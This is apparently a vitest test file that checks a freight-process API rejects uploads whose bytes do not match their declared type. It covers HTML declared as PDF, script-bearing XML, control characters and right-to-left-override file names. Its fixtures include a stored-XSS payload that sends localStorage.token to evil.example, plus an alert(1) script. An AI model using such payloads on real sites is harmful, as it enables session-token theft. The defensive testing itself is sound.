import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { eq } from 'drizzle-orm';
import { storedFiles } from '../../src/db/schema/documents.ts';
import { freightQuotations } from '../../src/db/schema/quotations.ts';
import { createServiceClient, SERVICE_AUDIENCE } from '../../src/core/auth/service-client.ts';
import { signAccessToken } from '../../src/lib/jwt.ts';
import { buildDiXml, buildPdf, buildPng } from '../../src/seed/files.ts';
import { authHeader, createAccessToken } from '../helpers/auth-token.ts';
import { advanceIdentitySequences, createClock } from '../helpers/fixtures.ts';
import { ANA, COMPANY_A, insertProcessFixtures, P } from '../helpers/process-fixtures.ts';
import { createTestApp, type TTestApp } from '../helpers/test-app.ts';
import {
  FILE_NAME_CHARACTERS_MESSAGE,
  FILE_NAME_LENGTH_MESSAGE,
} from '../../src/lib/http/read-multipart-form.ts';

/** Process 42 of the fixtures (company A, id P.di). */
const IDENTIFICATION = 42;

const PDF = buildPdf(['Tarifa de frete', 'Santos, março de 2026']);
const PNG = buildPng(1, 1, () => [200, 30, 30]);
/** What a stored-XSS attempt uploads: a page with a script, declared as a PDF. */
const HTML = Buffer.from(
  '<!doctype html><html><body><script>fetch("//evil.example/?t="+localStorage.token)</script></body></html>',
);

type TUpload = { fileName: string; mimeType: string; content: Buffer };

/** A multipart body: text fields, then the one file. */
const multipart = (file: TUpload, fields: Record<string, string> = {}) => {
  const boundary = '----pdcUploadContent';
  const payload = Buffer.concat([
    ...Object.entries(fields).map(([name, value]) =>
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`),
    ),
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.fileName}"\r\nContent-Type: ${file.mimeType}\r\n\r\n`,
    ),
    file.content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
};

const sha256Of = (content: Buffer) => createHash('sha256').update(content).digest('hex');

/** Security round 2, item 5: an upload is judged by its bytes, not by the type its sender declares. */
describe('uploads are judged by their content', () => {
  let ctx: TTestApp;
  let service: string;
  const clock = createClock(new Date('2026-03-05T15:00:00Z'));

  const customerHeaders = async () =>
    authHeader(
      await createAccessToken({
        config: ctx.config,
        userId: ANA.id,
        companyIds: [COMPANY_A],
        now: clock.now(),
      }),
    );
  const storedTypeOf = async (content: Buffer) =>
    (
      await ctx.database.db
        .select({ mimeType: storedFiles.mimeType })
        .from(storedFiles)
        .where(eq(storedFiles.sha256, sha256Of(content)))
    ).map((row) => row.mimeType);

  const uploadDocument = (file: TUpload, documentTypeName = 'Invoice') => {
    const { payload, headers } = multipart(file, { documentTypeName, isCashRequest: 'false' });
    return ctx.app.inject({
      method: 'POST',
      url: `/api/integration/processes/${IDENTIFICATION}/documents`,
      headers: { ...headers, authorization: service },
      payload,
    });
  };
  const downloadDocument = async (documentId: number) =>
    ctx.app.inject({
      method: 'GET',
      url: `/api/public/customer/processes/${P.di}/documents/${documentId}/download`,
      headers: await customerHeaders(),
    });

  /** A forwarder's link with its quotation sent, ready to take attachments. */
  const openForwarderQuotation = async (person: string) => {
    const invited = await ctx.app.inject({
      method: 'POST',
      url: `/api/integration/processes/${IDENTIFICATION}/quotation-invitations`,
      headers: { authorization: service },
      payload: { forwarderName: 'Oceano Azul Logística', email: 'cotacao@oceanoazul.example' },
    });
    expect(invited.statusCode, invited.body).toBe(201);
    const token = (invited.json() as { url: string }).url.split('/').at(-1) ?? '';
    const sent = await ctx.app.inject({
      method: 'PUT',
      url: `/api/public/forwarder-quote/${token}`,
      payload: {
        person,
        totalUSD: 1500,
        transitTime: 32,
        freetime: 14,
        containers: [{ quantity: 1, type: 'DRY 40' }],
        validUntil: '2026-03-31',
      },
    });
    expect(sent.statusCode, sent.body).toBe(200);
    return token;
  };
  const attach = (token: string, file: TUpload) => {
    const { payload, headers } = multipart(file);
    return ctx.app.inject({
      method: 'POST',
      url: `/api/public/forwarder-quote/${token}/attachments`,
      headers,
      payload,
    });
  };

  beforeAll(async () => {
    ctx = await createTestApp({
      now: clock.now,
      prepare: async (database) => {
        await insertProcessFixtures(database.db);
        // An open round: nothing approved yet, so the forwarder may attach.
        await database.db.update(freightQuotations).set({ approved: null, rejectReason: null });
        await advanceIdentitySequences(database.db, [
          'freight_quotations',
          'freight_quotation_containers',
          'freight_quotation_documents',
          'documents',
          'stored_files',
          'partners',
        ]);
      },
    });
    const client = await createServiceClient({
      db: ctx.database.db,
      name: 'ERP Despachante',
      companyIds: null,
    });
    const iat = Math.floor(clock.now().getTime() / 1000);
    service = `Bearer ${await signAccessToken({ claims: { sub: String(client.id), companyIds: [], iat, exp: iat + 3600, aud: SERVICE_AUDIENCE }, signingKeys: ctx.config.JWT_SIGNING_KEYS })}`;
  });
  afterAll(() => ctx.close());

  describe('the ingestion documents call', () => {
    it('refuses HTML declared as a PDF, naming the file and what its bytes are, and stores nothing', async () => {
      const response = await uploadDocument({
        fileName: 'fatura.pdf',
        mimeType: 'application/pdf',
        content: HTML,
      });
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({
        message:
          'O conteúdo do arquivo "fatura.pdf" não é um PDF, PNG, JPEG, XML, XLSX, DOCX ou ZIP (tipo detectado: HTML).',
      });
      expect(await storedTypeOf(HTML)).toEqual([]);
    });

    it('stores a real PDF and PNG as their bytes show, and the customer downloads them as attachments', async () => {
      const pdf = await uploadDocument({
        fileName: 'invoice-88.pdf',
        mimeType: 'application/pdf',
        content: PDF,
      });
      expect(pdf.statusCode, pdf.body).toBe(200);
      const png = await uploadDocument(
        { fileName: 'foto-da-carga.png', mimeType: 'image/png', content: PNG },
        'Foto da carga',
      );
      expect(png.statusCode, png.body).toBe(200);
      expect(await storedTypeOf(PDF)).toEqual(['application/pdf']);
      expect(await storedTypeOf(PNG)).toEqual(['image/png']);

      for (const [answer, content, type, name] of [
        [pdf, PDF, 'application/pdf', 'invoice-88.pdf'],
        [png, PNG, 'image/png', 'foto-da-carga.png'],
      ] as const) {
        const download = await downloadDocument((answer.json() as { id: number }).id);
        expect(download.statusCode, download.body).toBe(200);
        expect(download.headers['content-type']).toBe(type);
        expect(download.headers['x-content-type-options']).toBe('nosniff');
        expect(download.headers['content-disposition']).toMatch(
          new RegExp(`^attachment; filename="${name}"`),
        );
        expect(download.rawPayload.equals(content)).toBe(true);
      }
    });

    it('refuses a PNG declared as a PDF, and a PNG under a .pdf name', async () => {
      const declared = await uploadDocument({
        fileName: 'foto.png',
        mimeType: 'application/pdf',
        content: PNG,
      });
      expect(declared.statusCode).toBe(400);
      expect(declared.json()).toMatchObject({
        message: 'O arquivo "foto.png" foi enviado como PDF, mas o conteúdo é PNG.',
      });
      const named = await uploadDocument({ fileName: 'foto.pdf', mimeType: 'image/png', content: PNG });
      expect(named.statusCode).toBe(400);
      expect(named.json()).toMatchObject({
        message: 'O nome do arquivo "foto.pdf" termina em .pdf, mas o conteúdo é PNG: use a extensão .png.',
      });
    });

    it('takes a DI extract as XML (text/xml or application/xml), and refuses XML that a browser would run', async () => {
      const extract = buildDiXml({ numeroDI: '26/0123456-7', importadorNome: 'Hércules Máquinas Ltda' });
      const taken = await uploadDocument(
        { fileName: 'extrato-di.xml', mimeType: 'text/xml', content: extract },
        'Extrato da DI',
      );
      expect(taken.statusCode, taken.body).toBe(200);
      expect(await storedTypeOf(extract)).toEqual(['application/xml']);

      for (const content of [
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>',
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e "&#60;x&#62;">]><d>&e;</d>',
        '<?xml version="1.0"?><?xml-stylesheet href="data:text/xsl,x"?><d/>',
      ]) {
        const refused = await uploadDocument(
          { fileName: 'extrato.xml', mimeType: 'application/xml', content: Buffer.from(content) },
          'Extrato da DI',
        );
        expect(refused.statusCode, content).toBe(400);
        expect(refused.json(), content).toMatchObject({
          message:
            'O conteúdo do arquivo "extrato.xml" não é um PDF, PNG, JPEG, XML, XLSX, DOCX ou ZIP (tipo detectado: XML com HTML, SVG, script ou DOCTYPE).',
        });
      }
    });

    it('answers 400 in pt-BR, never 5xx, for empty, text or unknown bytes', async () => {
      const empty = await uploadDocument({
        fileName: 'pacote.zip',
        mimeType: 'application/zip',
        content: Buffer.alloc(0),
      });
      expect(empty.statusCode).toBe(400);
      expect(empty.json()).toMatchObject({ message: 'O arquivo está vazio.' });
      for (const [content, detected] of [
        // A CSV: text file-type cannot tell, never allowed (the message says what it looks like).
        [Buffer.from('numeroDI;valor\n26/0123456-7;100,00\n'), 'texto'],
        [Buffer.from([0x00, 0x01, 0x02, 0x03, 0xfe, 0xff]), 'desconhecido'],
      ] as const) {
        const response = await uploadDocument({
          fileName: 'pacote.zip',
          mimeType: 'application/zip',
          content,
        });
        expect(response.statusCode, response.body).toBe(400);
        expect(response.json()).toMatchObject({
          message: `O conteúdo do arquivo "pacote.zip" não é um PDF, PNG, JPEG, XML, XLSX, DOCX ou ZIP (tipo detectado: ${detected}).`,
        });
      }
    });
  });

  describe("the forwarder's attachments", () => {
    it('refuses HTML declared as a PDF, naming the file, and attaches nothing', async () => {
      const token = await openForwarderQuotation('Rita HTML');
      const response = await attach(token, {
        fileName: 'tarifa.pdf',
        mimeType: 'application/pdf',
        content: HTML,
      });
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({
        message:
          'O conteúdo do arquivo "tarifa.pdf" não é um PDF, PNG, JPEG, XLSX ou DOCX (tipo detectado: HTML).',
      });
      const page = await ctx.app.inject({ method: 'GET', url: `/api/public/forwarder-quote/${token}` });
      expect((page.json() as { data: { attachments: unknown[] } }).data.attachments).toEqual([]);
      expect(await storedTypeOf(HTML)).toEqual([]);
    });

    it('attaches a real PNG as image/png, and the customer downloads it as an attachment', async () => {
      const token = await openForwarderQuotation('Rita PNG');
      const declaredPdf = await attach(token, {
        fileName: 'rota.pdf',
        mimeType: 'application/pdf',
        content: PNG,
      });
      expect(declaredPdf.statusCode).toBe(400);
      expect(declaredPdf.json()).toMatchObject({
        message: 'O arquivo "rota.pdf" foi enviado como PDF, mas o conteúdo é PNG.',
      });

      const attached = await attach(token, { fileName: 'rota.png', mimeType: 'image/png', content: PNG });
      expect(attached.statusCode, attached.body).toBe(200);
      const [attachment] = (attached.json() as { data: { attachments: { id: number }[] } }).data.attachments;
      const download = await ctx.app.inject({
        method: 'GET',
        url: `/freightQuotation/importProcess/${P.di}/documents/${attachment?.id}/download`,
        headers: await customerHeaders(),
      });
      expect(download.statusCode, download.body).toBe(200);
      expect(download.headers['content-type']).toBe('image/png');
      expect(download.headers['x-content-type-options']).toBe('nosniff');
      expect(download.headers['content-disposition']).toMatch(/^attachment; filename="rota.png"/);
      expect(download.rawPayload.equals(PNG)).toBe(true);
    });
  });
  describe('every text of a multipart form obeys the control-character rule', () => {
    const NUL = '\u0000';
    const uploadCustomerDocument = async (file: TUpload, fields: Record<string, string>) => {
      const { payload, headers } = multipart(file, fields);
      return ctx.app.inject({
        method: 'POST',
        url: `/api/public/customer/processes/${P.di}/documents`,
        headers: { ...headers, ...(await customerHeaders()) },
        payload,
      });
    };
    const pdf = (fileName: string): TUpload => ({ fileName, mimeType: 'application/pdf', content: PDF });

    it('answers 400 in pt-BR, never 500, for NUL in any field or file name of the three upload routes', async () => {
      const token = await openForwarderQuotation('Rita NUL');
      const answers = [
        ['ingestion: file name', await uploadDocument(pdf(`fatura${NUL}.pdf`))],
        ['ingestion: documentTypeName', await uploadDocument(pdf('fatura.pdf'), `Invoice${NUL}`)],
        [
          'customer: note',
          await uploadCustomerDocument(pdf('pl.pdf'), { documentTypeName: 'Packing list', note: `ok${NUL}` }),
        ],
        [
          'customer: file name',
          await uploadCustomerDocument(pdf(`pl${NUL}.pdf`), { documentTypeName: 'Packing list' }),
        ],
        ['forwarder: file name', await attach(token, pdf(`tarifa${NUL}.pdf`))],
      ] as const;
      for (const [where, response] of answers) {
        expect(response.statusCode, `${where}: ${response.body}`).toBe(400);
        expect((response.json() as { message: string }).message, where).toMatch(
          /caracteres de controle.*não (são|é) aceitos/,
        );
      }
    });

    it('refuses a file name past 255 characters or with a direction override (U+202E)', async () => {
      const token = await openForwarderQuotation('Rita RLO');
      for (const send of [
        (file: TUpload) => uploadDocument(file),
        (file: TUpload) => uploadCustomerDocument(file, { documentTypeName: 'Packing list' }),
        (file: TUpload) => attach(token, file),
      ]) {
        const long = await send(pdf(`${'a'.repeat(5_000)}.pdf`));
        expect(long.statusCode, long.body).toBe(400);
        expect(long.json()).toMatchObject({ message: FILE_NAME_LENGTH_MESSAGE });
        const override = await send(pdf('fatura\u202Efdp.exe.pdf'));
        expect(override.statusCode, override.body).toBe(400);
        expect(override.json()).toMatchObject({ message: FILE_NAME_CHARACTERS_MESSAGE });
      }
      // 255 characters is still a name.
      const longest = await uploadDocument(pdf(`${'b'.repeat(251)}.pdf`));
      expect(longest.statusCode, longest.body).toBe(200);
    });
  });
});
